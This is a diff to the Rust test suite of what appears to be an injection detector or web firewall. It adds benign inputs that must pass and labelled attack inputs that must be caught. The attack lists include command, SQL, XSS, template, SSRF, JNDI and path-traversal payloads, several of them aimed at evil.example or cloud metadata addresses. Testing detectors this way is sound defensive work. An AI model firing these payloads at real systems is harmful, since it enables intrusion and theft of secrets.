@@ -166,6 +166,52 @@ const HONEST: &[Texts] = &[
     ("addresses", Part::Query, "host", &[
         "example.com", "10.0.0.1", "8.8.8.8;8.8.4.4", "fe80::1", "a.example.com, b.example.com", "db-1.internal:5432", "web1;web2;web3",
     ]),
+    ("titles", Part::Query, "q", &[
+        "Grep & awk for beginners", "Python & bash scripting basics", "Intro to awk; sed; grep", "Bash, sed & awk: a primer", "chmod & chown explained",
+        "Linux; iptables tutorial", "Perl & PHP - a comparison", "Merge & git pull explained", "Apache & openssl options", "Coal & tar coating",
+        "Strike; command center", "systemctl & journalctl cheat sheet", "Ruby - what is it?", "Trap & hip-hop mix", "Zoom & mount - tripod", "Sed | awk | grep",
+    ]),
+    ("titles", Part::Body, "title", &[
+        "Useradd & usermod for beginners", "Tar & gzip: how to use", "Docker & kubectl commands",
+    ]),
+    ("talk of statements", Part::Body, "text", &[
+        "SELECT * FROM orders WHERE id = 5 gives me an error. What's wrong?", "Why does \"SELECT * FROM orders\" return duplicates?",
+        "How would you rewrite: SELECT a FROM b WHERE c IN (SELECT d FROM e)?", "Isn't \"select id from users\" slow? See EXPLAIN.",
+        "UPDATE users SET x = 1 WHERE id = 2 hangs, why?", "What about `select max(id) from t`? Would that be faster?",
+        "can i use union select here? or is there a better way", "Your query `SELECT a, b FROM c` is missing a join, isn't it?",
+        "Go to settings; select \"Privacy\" and save", "Choose your colour and your size from the list; select \"Add to cart\" when you are done",
+        "Copy it; copy this to the clipboard", "The students' and teachers' rooms; select one from each floor", "Thanks; copy this to me",
+    ]),
+    ("talk of scripts", Part::Body, "comment", &[
+        "alert('hi') shows a dialog, that is all", "Use `alert(1)` to test it", "document.write is evil, don't use it", "eval('x') is what the page does",
+        "document.cookie is empty, is that normal?", "JavaScript: The Definitive Guide (7th Edition)",
+        "What does java.lang.Class do?", "java.lang.ClassNotFoundException: com.foo.Bar", "http://localhost:8080/test gives 404, why?",
+        "ping 8.8.8.8 works, but curl doesn't", "while true; do sleep 1; done is a busy loop",
+    ]),
+    ("talk of scripts", Part::Query, "q", &[
+        "JavaScript: The Good Parts (2008)", "what is alert('x') used for?", "http://localhost:3000 not working",
+    ]),
+    ("traces", Part::Body, "stack", &[
+        "java.lang.RuntimeException: a\n\tat a.B.c(B.java:1)\n\tat java.base/java.lang.Thread.run(Thread.java:840)\nCaused by: java.lang.ClassNotFoundException: x.Y\n\t... 12 more",
+        "at java.lang.Runtime.exec(Runtime.java:450)\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1029)", "java.lang.ClassCastException",
+    ]),
+    ("settings", Part::Body, "ldap_filter", &[
+        "(&(objectClass=person)(uid={0}))", "(|(mail=*@example.com)(cn=admins))",
+    ]),
+    ("settings", Part::Body, "redis_url", &[
+        "redis://localhost:6379/0", "postgres://app:pw@127.0.0.1:5432/app",
+    ]),
+    ("settings", Part::Body, "ldap_url", &[
+        "ldap://dc1.example.com:389", "ldaps://ldap.example.com/dc=example",
+    ]),
+    ("rich text", Part::Body, "html", &[
+        "<style>*{margin:0} html{scroll-behavior:smooth}</style><p>x</p>", "<style>@import url(\"https://fonts.example.com/css2?family=Inter\");</style>",
+        "<pre style=\"x\" class=\"language-javascript\"><code>let a = 1;</code></pre>", "<svg><use href=\"#icon\"/></svg>", "<math><mi>x</mi></math>",
+        "<details open><summary>x</summary>y</details>", "<svg viewBox=\"0 0 1 1\"><image href=\"data:image/png;base64,iVBORw0KGgo=\"/></svg>",
+    ]),
+    ("passwords", Part::Body, "user.password", &[
+        "Abc'--9", "p@$$w0rd;ls", "$ne", "../..", "9';k",
+    ]),
     ("look-ups", Part::Body, "custom.region", &[
         "${opt:region, env:AWS_REGION}", "${self:custom.stages.${opt:stage}}", "${cf:stack.Output}", "${ssm:/path/key}", "${param:domain}",
         "${env:A, \"b\"}",
@@ -295,6 +341,50 @@ const ATTACKS: &[Texts] = &[
     ("template", Part::Body, "message", &[
         "{{['id']|map('system')}}", "{{ config.items() }}", "<#assign x=\"y\"?new()>", "{{ cycler.__init__.__globals__ }}", "{{7*7}}",
     ]),
+    ("command", Part::Query, "q", &[
+        "x; awk 'BEGIN{system(\"id\")}'", "grep & whoami", "x & awk -f /tmp/a", "Docker; kubectl get pods -A", "Linux; useradd bob", "a; chown nobody file",
+        "Merge; git clone http://evil.example/x", "x;tar cf - /etc", "foo; sed -n 1p /etc/hosts", "x; perl -e 1", "x;time id", "a;getcap -r /", "; `ls -la` ;",
+        "timeout 5 id", "flock -u / whoami", "x;gcc x.c", "cat /etc/passwd", "less<etc/passwd",
+    ]),
+    ("sqli", Part::Body, "text", &[
+        "x', (select a from b), 'you are the", "this is nice' or 1=1 --", "that is it'; select a from b --", "1 union select the, is from users where",
+        "what is this' and sleep(5) and 'a'='a", "the is', (select password from users limit 1)) -- x",
+    ]),
+    ("sqli", Part::Query, "id", &[
+        "1' regexp '^a", "'='or'", "'=''#", "iif(1=1,1,0)", "version()", "id>0", "1; refresh materialized view v", "1; purge binary logs", "1; discard all",
+        "1'; select name from users where id=1", "x y z'; select 'a' into outfile '/tmp/x'", "1;copy t to program 'id'",
+    ]),
+    ("xss", Part::Body, "comment", &[
+        "x onmouseover=alert(1) the is it", "alert(1)//the is it", "alert(1) /* the is it", "the is ';alert(1)//", "you are \" onmouseover=\"alert(1)", "what is this <b onclick=alert(1)>?", "`-alert(1)-` is the", "this is ${alert(1)} it",
+    ]),
+    ("xss", Part::Body, "html", &[
+        "<svg><use href=\"//evil.example/x.svg#a\"/></svg>", "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>", "<math><base href=//evil.example></math>",
+        "<svg><animate attributeName=href values=javascript:1 />", "<p style=\"width:expression(alert(1))\">", "<div style=x:expression(1)>",
+    ]),
+    ("xss", Part::Query, "q", &[
+        "x onmouseover=alert(1) the is it", "alert(1)//the is it", "-alert(1)-// the is it", "j a v a script : alert(1)", "java s c r i p t:alert(1)", "javascript: var x=1;alert(x)", "javascript:throw onerror=alert,1", "vbscript:msgbox(1)",
+    ]),
+    ("code", Part::Body, "stack", &[
+        "throw new Exception('id'.execute().text)", "runtime.clonetransformer", "${T(java.lang.Runtime).getRuntime().exec('id')}", "java.lang.Runtime",
+        "at java.lang.Runtime.exec(\"id\")", "x\njava.lang.Runtime.getRuntime().exec('id')\nat a.B.c(B.java:1)",
+    ]),
+    ("ssrf", Part::Body, "url", &[
+        "ldap://127.0.0.1:389/x", "sftp://evil.example:11111/", "ldaps://evil.example/", "gopher://x/", "http://127。0。0。1/",
+    ]),
+    ("ssrf", Part::Body, "ldap_url", &[
+        "ldap://evil.example:6379/x", "ldap://evil.example/%0astats", "ldap://169.254.169.254/x", "gopher://evil.example/",
+    ]),
+    ("ldap", Part::Body, "ldap_filter", &[
+        "*)(uid=*))(|(uid=*", "(a=b))(|(c=d)",
+    ]),
+    ("template", Part::Query, "name", &[
+        "{{'a'*3}}", "{{ [1,2]|sum }}", "{% print(7) %}", "<%= ENV %>", "{{7.0/2}}", "{{lipsum}}", "{{cycler}}", "${applicationScope}", "$!{7*7}", "${.data_model}",
+        "{% if 7*7 == 49 %}x{% endif %}",
+    ]),
+    ("traversal", Part::Query, "file", &[
+        "/sys/class/net/eth0/address", "/dev/fd/0", "/run/secrets/db_password", "~root/.bashrc", "/opt/app/config/secrets.yml", "/tmp/sess_abc123",
+        "META-INF/MANIFEST.MF", "classpath:application.yml", "../config/database.yml", "{\"kid\":\"../../../../dev/null\"}",
+    ]),
     ("code", Part::Query, "expr", &[
         "process.exit(1)", "(function(){return process})()", "global.require(\"x\")", "process.kill(process.pid)", "root.process.env",
     ]),
@@ -391,4 +481,57 @@ fn a_statement_passes_where_statements_are_reported_and_nowhere_else() {
     assert_eq!(families(Part::Body, "spans.description", text, &options), []);
     assert_ne!(standard(Part::Query, "id", text), []);
     assert_ne!(families(Part::Body, "id", &format!("1; {text}"), &options), []);
+}
+
+/// The path, the type of the body, the field, what stands in it, and whether it passes.
+#[rustfmt::skip]
+const SENT_TO: &[(&str, &str, &str, &str, bool)] = &[
+    ("/csp-report", "application/csp-report", "csp-report.script-sample", "alert(1)", true),
+    ("/csp-report", "application/csp-report", "csp-report.script-sample", "eval(\"x\")", true),
+    ("/csp-report", "application/csp-report", "csp-report.script-sample", "document.write('<script src=x>')", true),
+    ("/csp-report", "application/csp-report", "csp-report.script-sample", "onclick=\"f()\"", true),
+    ("/r", "application/reports+json", "body.sample", "javascript:void(0)", true),
+    ("/r", "application/reports+json", "body.sample", "window.location = '/x'", true),
+    ("/r", "application/json", "body.sample", "alert(1)", false),
+    ("/r", "application/json", "script-sample", "alert(1)", false),
+    ("/csp-report", "application/csp-report", "csp-report.document-uri", "https://example.com/\"><script>alert(1)</script>", false),
+    ("/api/errors", "application/json", "message", "Refused to execute inline script: eval('x')", true),
+    ("/api/errors", "application/json", "stack", "#0 /var/www/html/index.php(12): exec('ls')", true),
+    ("/api/errors", "application/json", "message", "x <img src=x onerror=alert(1)>", false),
+    ("/api/errors", "application/json", "message", "${jndi:ldap://evil.example/a}", false),
+    ("/api/run", "application/json", "stack", "system('ls')", false),
+    ("/admin/settings", "application/json", "url", "sftp://u@backup.example.com/daily", true),
+    ("/admin/settings", "application/json", "url", "ldaps://ldap.corp.example.com:636", true),
+    ("/admin/settings", "application/json", "path", "/var/log/nginx", true),
+    ("/admin/settings", "application/json", "head_code", "<script async src=\"https://tags.example.com/a.js\"></script>", true),
+    ("/admin/settings", "application/json", "url", "sftp://evil.example:11111/", false),
+    ("/admin/settings", "application/json", "url", "gopher://evil.example/", false),
+    ("/admin/settings", "application/json", "url", "ldap://169.254.169.254/", false),
+    ("/admin/settings", "application/json", "path", "/etc/passwd", false),
+    ("/admin/settings", "application/json", "path", "/var/www/.env", false),
+    ("/admin/settings", "application/json", "name", "<script>alert(1)</script>", false),
+    ("/admin/../fetch", "application/json", "url", "sftp://u@backup.example.com/daily", false),
+    ("/api/fetch", "application/json", "url", "ldaps://ldap.corp.example.com:636", false),
+    ("/api/pages", "application/json", "head_code", "<script src=//evil.example></script>", false),
+];
+
+#[test]
+fn reports_and_settings_are_told_by_where_they_are_sent() {
+    let mut wrong = Vec::new();
+    for (path, content_type, name, text, passes) in SENT_TO {
+        let options = Options {
+            context: Context {
+                path,
+                content_type,
+                format: Some(Format::Json),
+                ..Context::NONE
+            },
+            ..Options::STANDARD
+        };
+        let found = families(Part::Body, name, text, &options);
+        if found.is_empty() != *passes {
+            wrong.push((path, name, text, found));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
 }
